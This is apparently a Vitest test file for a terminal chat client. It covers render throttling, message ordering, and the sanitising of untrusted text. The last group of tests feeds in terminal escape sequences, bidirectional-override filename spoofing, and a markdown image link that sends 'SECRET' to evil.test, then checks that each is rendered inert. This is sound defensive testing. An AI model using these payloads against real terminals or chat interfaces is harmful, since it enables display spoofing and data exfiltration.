import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Conversation } from '../../src/kchat/chat/conversation.js'
import { linesOf } from '../../src/kchat/chat/lines.js'
import { FRAME_MS } from '../../src/kchat/chat/paced.js'
import { statusOf } from '../../src/kchat/chat/view.js'
import { ChatService } from '../../src/kchat/service.js'

const EVENTS = 1000
let server: Server
let url = ''

/** Answers a message with all its events in one burst. */
beforeAll(async () => {
  server = createServer((request, response) => {
    request.resume()
    const ids = { task_id: 't', message_id: 'm', conversation_id: 'c', created_at: 1 }
    const event = (fields: object) => `data: ${JSON.stringify({ ...ids, ...fields })}\n\n`
    response.writeHead(200, { 'content-type': 'text/event-stream' })
    const words = Array.from({ length: EVENTS }, (_, n) => event({ event: 'message', answer: `one two three${n} ` }))
    const metadata = { usage: {}, retriever_resources: [] }
    response.end(`${words.join('')}${event({ event: 'message_end', metadata })}`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
afterAll(() => void server.close())

describe('a conversation in the view', () => {
  it('is drawn 30 times a second at most, however fast the answer comes', async () => {
    const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
    const conversation = new Conversation(chat, {})
    const drawn: number[] = []
    conversation.subscribe(() => drawn.push(performance.now()))
    const began = performance.now()
    await conversation.send('Tell me.')
    await new Promise((resolve) => setTimeout(resolve, 2 * FRAME_MS))
    expect(drawn.length).toBeLessThanOrEqual((performance.now() - began) / FRAME_MS + 1)
    expect(drawn.length).toBeGreaterThanOrEqual(2)
    const [, answer] = conversation.state().entries
    expect(answer?.text.trim().split(' ')).toHaveLength(3 * EVENTS)
    chat.close()
  })

  it('sends messages one after another, in the order they came', async () => {
    const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
    const conversation = new Conversation(chat, {})
    await Promise.all(['one', 'two', 'three'].map((query) => conversation.send(query)))
    const asked = conversation.state().entries.filter(({ kind }) => kind === 'question')
    expect(asked.map(({ text }) => text)).toEqual(['one', 'two', 'three'])
    expect(conversation.state().entries).toHaveLength(6)
    chat.close()
  })
})

describe('what others wrote', () => {
  const HOSTILE =
    '\u001b]8;;https://evil.test/\u0007click\u001b]8;;\u0007 \u001b[2J\u009b31m \u202egnp.exe \u061c \u2028'
  const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/

  it('is inert in every line of the view: answers, also while they grow, their sources, questions, notes and errors', () => {
    for (const kind of ['question', 'answer', 'note', 'error'] as const)
      for (const more of [{}, { isGrowing: true as const }]) {
        const entry = { kind, text: HOSTILE, sources: [{ position: 1, name: HOSTILE }], thought: HOSTILE, ...more }
        for (const { text } of linesOf(entry, 60)) expect(text).not.toMatch(UNSAFE)
      }
  })

  it('is inert where the application and its tools are named', () => {
    const chat = new ChatService({ url, token: 'app-x' }, { user: 'me' })
    const state = new Conversation(chat, {}).state()
    const shown = statusOf({ ...state, name: HOSTILE, activity: HOSTILE, phase: 'answering' }, 0, false)
    expect(shown).not.toMatch(UNSAFE)
    expect(shown).toContain('click')
    chat.close()
  })

  it('is shown as it stands where it is an image of elsewhere: nothing is fetched', () => {
    const text = '![x](https://evil.test/?d=SECRET) [a][1]\n\n[1]: https://evil.test/?d=SECRET'
    const lines = linesOf({ kind: 'answer', text }, 80).map((line) => line.text)
    expect(lines.slice(0, 3)).toEqual(text.split('\n'))
  })
})
